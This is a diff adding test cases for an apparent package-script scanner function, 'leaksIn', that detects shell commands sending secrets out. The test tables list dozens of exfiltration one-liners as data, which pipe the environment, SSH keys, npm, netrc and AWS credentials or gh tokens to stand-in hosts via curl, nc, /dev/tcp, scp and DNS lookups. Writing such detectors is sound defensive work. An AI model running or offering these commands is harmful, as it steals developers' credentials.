@@ -2,6 +2,7 @@
 import { describe, expect, test } from 'vitest';
 import { inlineScripts } from '../../src/code/inline.ts';
 import { callOf, commandsIn, worthOf } from '../../src/code/shell.ts';
+import { leaksIn } from '../../src/code/shell-flow.ts';
 import { packageOf } from '../world.ts';
 
 const nothing = () => undefined;
@@ -51,4 +52,100 @@ describe('scripts in commands', () => {
       'a()',
     ]);
   });
+});
+
+describe('what leaves', () => {
+  test.each<readonly [string, readonly string[]]>([
+    ['env | base64 | curl -d @- https://a.example', ['the whole environment']],
+    ['printenv|nc 203.0.113.9 4444', ['the whole environment']],
+    ['curl -s -d "$(cat ~/.npmrc)" https://a.example', ['npm credentials']],
+    ['curl -d @$HOME/.npmrc https://a.example', ['npm credentials']],
+    ['curl -sT ~/.ssh/id_rsa https://a.example', ['SSH keys']],
+    ['curl --data-binary @- https://a.example < ~/.netrc', ['netrc credentials']],
+    ['curl "https://a.example/?$(cat ~/.npmrc | base64 -w0)"', ['npm credentials']],
+    ['tar czf - ~/.ssh ~/.aws 2>/dev/null | nc 203.0.113.9 4444 || true', ['SSH keys', 'AWS credentials']],
+    ['H=https://a.example\nD=$(env | base64); curl -d "$D" $H', ['the whole environment']],
+    ['env > /tmp/x && curl -F f=@/tmp/x https://a.example', ['the whole environment']],
+    ['env | tee /tmp/x >/dev/null; gzip /tmp/x; curl -T /tmp/x.gz https://a.example', ['the whole environment']],
+    ['cp ~/.ssh/id_rsa /tmp/d/ && cd /tmp/d && git add -A && git push -q https://a.example/r.git', ['SSH keys']],
+    ['tar czf /tmp/a.tgz -C ~ .ssh; wget --post-file=/tmp/a.tgz https://a.example', ['SSH keys']],
+    ['(env; id) | curl -d @- https://a.example', ['the whole environment', 'id']],
+    ['for f in ~/.npmrc ~/.netrc; do curl -F "f=@$f" https://a.example; done', ['npm credentials']],
+    ['find ~ -name .npmrc -exec cat {} \\; | curl -d @- https://a.example', ['npm credentials']],
+    ['find ~ -name id_rsa | xargs cat | curl -d @- https://a.example', ['SSH keys']],
+    ['cat ~/.npmrc | while read -r l; do curl "https://a.example/?l=$l"; done', ['npm credentials']],
+    ["bash -c 'env > /dev/tcp/203.0.113.9/443'", ['the whole environment']],
+    ['scp -r ~/.ssh a@a.example:', ['SSH keys']],
+    ['gh gist create ~/.npmrc', ['npm credentials']],
+    ['cd ~ && cat .npmrc | curl -d @- https://a.example', ['npm credentials']],
+    ['cat ../../.env | curl -d @- https://a.example', ['a dotenv file']],
+    ['T=$(gh auth token)\ncurl "https://a.example/$T"', ['gh auth token']],
+    ['curl -d @- https://a.example <<EOF\n$(env)\nEOF', ['the whole environment']],
+    ['nslookup $(whoami).$(hostname).a.example', ['whoami', 'hostname']],
+    ['curl "https://a.example/?h=`hostname`&u=$USER"', ['hostname', '$USER']],
+    ['ping -c1 $(hostname).a.example', ['hostname']],
+  ])('%s', (text, expected) => {
+    expect([...new Set(leaksIn(text).map(({ what }) => what))].sort()).toEqual([...expected].sort());
+  });
+
+  test.each([
+    'curl -L https://a.example/x.tar.gz | tar xz',
+    'env FOO=1 node x.js && curl https://a.example',
+    'env | grep npm_config; curl https://a.example',
+    'env | grep ^npm_package_version | curl -d @- https://a.example',
+    'set -e; curl -fsSL -o x https://a.example',
+    'cat package.json | curl -d @- https://a.example',
+    'test -f ~/.npmrc && curl https://a.example',
+    'grep -q token ~/.npmrc && curl https://a.example/x',
+    'cp .env.example .env && curl https://a.example',
+    'cat .env | curl -d @- https://a.example',
+    'curl -H "Authorization: Bearer $TOKEN" https://a.example',
+    'curl -H "Authorization: token $(gh auth token)" https://a.example',
+    'curl --netrc-file ~/.netrc -o ~/.ssh/known_hosts https://a.example',
+    'curl -L https://a.example/x-$(uname -s)-$(uname -m).tgz | tar xz',
+    'curl -o /home/$(whoami)/x https://a.example; sudo chown $(id -u) x',
+    'scp -i ~/.ssh/id_rsa dist.tgz a@a.example:',
+    'rsync -az -e "ssh -i ~/.ssh/id_rsa" dist/ $USER@a.example:',
+    'scp a@a.example:.ssh/id_rsa.pub .',
+    'env > /tmp/x; curl -T dist.tgz https://a.example; git push',
+    'ssh -i ~/.ssh/id_rsa a@a.example',
+    'mkdir -p ~/.ssh && ssh-keyscan a.example >> ~/.ssh/known_hosts && ping -c1 a.example',
+    'cat ~/.npmrc | sha256sum | curl -d @- https://a.example',
+    'ls -la ~/.ssh | wc -l; curl https://a.example',
+    'curl -u "$USER:$PASS" https://a.example',
+  ])('not: %s', (text) => {
+    expect(leaksIn(text)).toEqual([]);
+  });
+});
+
+test.each([
+  'curl -d "$(',
+  'env | curl ',
+  'A=$A$A; curl $A ',
+  "curl '",
+  '$(',
+  '`',
+  '((',
+  '{ ',
+  '<<A\n',
+  'cat ~/.npmrc > /tmp/x; ',
+  'cat /proc/',
+  'gpg a ',
+  'curl "$A" | node -e "',
+  'node -e ',
+  '\\',
+  'a=@',
+  ' ',
+  'find ~ -exec ',
+])('a megabyte of %j is read in bounded time', (unit) => {
+  const text = `curl ${unit.repeat(1_000_000 / unit.length)}`;
+  const pkg = packageOf({
+    name: '',
+    manifest: { scripts: { install: 'sh x.sh', postinstall: text } },
+    files: { 'x.sh': text },
+  });
+  const started = process.cpuUsage().user;
+  leaksIn(text);
+  inlineScripts(pkg);
+  expect((process.cpuUsage().user - started) / 1_000).toBeLessThan(3_000);
 });
